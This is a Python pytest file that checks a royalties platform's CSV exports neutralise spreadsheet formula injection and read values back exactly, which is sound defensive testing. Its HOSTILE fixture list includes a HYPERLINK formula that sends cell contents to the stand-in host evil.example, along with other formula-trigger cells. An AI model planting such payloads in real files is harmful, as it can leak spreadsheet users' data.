"""Every CSV the platform serves is safe to open in a spreadsheet (issue #12, item 7), and reads back exactly."""

import csv
import io

import pytest

from ledger.royalties import exports
from ledger.royalties.csvsafe import original_cell, safe_cell
from ledger.royalties.periods import record_revenue
from ledger.royalties.statement import _csv_text
from tests.royalties.conftest import period_bounds

# The probe's reference, and each other start a spreadsheet runs (or a quote, which the rule must keep readable).
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "'=1+1", "'quoted"]
PLAIN = ["subs-2026-11", "0xAbC", "2026-11-30T00:00:00+00:00", "", "a=b", "x-y"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_is_neutralised_and_reads_back(value):
    written = safe_cell(value)
    assert written == "'" + value and original_cell(written) == value


@pytest.mark.parametrize("value", [*PLAIN, 0, 17, 10**30, None, True])
def test_plain_cells_and_numbers_are_written_as_they_are(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert original_cell(safe_cell(value)) == value


def test_the_statement_csv_fields_follow_the_same_rule():
    assert _csv_text("frozen") == "frozen" and _csv_text("0x" + "ab" * 20) == "0x" + "ab" * 20
    assert _csv_text("=1+1") == "'=1+1" and _csv_text('=A1,"x"') == '"\'=A1,""x"""'


def test_revenue_csv_serves_the_probes_reference_neutralised(world):
    starts, ends = period_bounds(world.ctx.client.head().timestamp)
    period = world.open(starts, ends)
    with world.sessions.begin() as session:
        for i, reference in enumerate(HOSTILE):
            record_revenue(session, period, source="subscriptions", amount=100 + i, currency="USD",
                           reference=reference, asset_id=None, chain_id=31337, payout_currency="USD",
                           unit_factor=world.ctx.unit_factor)
    with world.sessions() as session:
        served = b"".join(exports.revenue(session, world.ctx, period)).decode()
    rows = list(csv.DictReader(io.StringIO(served)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row["reference"].startswith("'"), row  # a spreadsheet shows it as text
        assert not row["amount"].startswith("'")
    assert sorted(original_cell(r["reference"]) for r in rows) == sorted(HOSTILE)
